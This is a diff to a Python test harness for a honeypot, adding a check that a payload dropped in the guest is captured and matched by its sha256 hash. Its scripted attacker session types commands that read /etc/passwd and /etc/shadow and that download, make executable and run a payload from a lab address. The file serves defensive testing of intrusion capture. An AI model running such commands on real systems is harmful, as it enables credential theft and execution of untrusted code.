@@ -5,6 +5,7 @@ import importlib.util
 import json
 import os
 import pty
+import re
 import subprocess
 import sys
 
@@ -13,7 +14,7 @@ from harness import QEBEK, TOP, Failure, case, check_counts, expect, folder, jso
 LIMIT = 400
 TYPED = [('', 'uname -a; id'), ('', 'cat /etc/passwd'), ('', 'echo second word'), ('', 'ls -a'),
          ('(interrupted)', 'cat /etc/shadow'), ('', "stty -echo; printf 'secret''?'; read -r pw; stty echo"), ('(echo off)', 's3cret'), ('', 'cd /tmp'),
-         ('', 'wget -q http://10.0.2.2:PORT/payload'), ('', 'chmod +x payload'), ('', './payload'),
+         ('', 'wget -q http://10.0.2.2:PORT/payload'), ('', 'sha256sum payload'), ('', 'chmod +x payload'), ('', './payload'),
          ('', 'echo \u00fc\u20ac'), ('', 'rm payload'), ('', 'exit')]
 
 
@@ -104,6 +105,18 @@ def check_lines(path):
     expect(wget and wget[0]['remote'].startswith('10.0.2.2:'), 'wget connects, in the session')
 
 
+def check_files(path):
+    """The program that was dropped, run and deleted was kept: as the guest's sha256sum has it."""
+    said = re.search(r'([0-9a-f]{64})  payload', read_text(f'{path}/screen'))
+    expect(said, 'sha256sum is not on the screen')
+    with open(f'{path}/files/{said.group(1)}', 'rb') as kept, open(f'{path}/web/payload', 'rb') as dropped:
+        expect(kept.read() == dropped.read(), 'the file that was kept is not the payload')
+    of = [o for o in json_lines(f'{path}/files/manifest.jsonl') if o.get('sha256') == said.group(1)]
+    last = of[-1]
+    expect(last['complete'] and last['written'] and last['executed'] and last['path'] == '/tmp/payload', f'{last}')
+    expect(last['writer']['comm'] == 'wget' and last['remote'].startswith('10.0.2.2:'), f'{last}')
+
+
 def check_sebek(path):
     """tshark reads the packets, and their counters have no hole."""
     done = subprocess.run(['tshark', '-r', f'{path}/sebek.pcap', '-d', 'udp.port==1101,sebek', '-T', 'fields', '-e',
@@ -174,6 +187,7 @@ def honeypot(name):
     check_counts(f'{path}/trace.qbk')
     keys, events, processes = check_keys(path), check_cast(path), check_tree(path)
     check_lines(path)
+    check_files(path)
     check_sebek(path)
     check_cowrie(path)
     check_page(path)
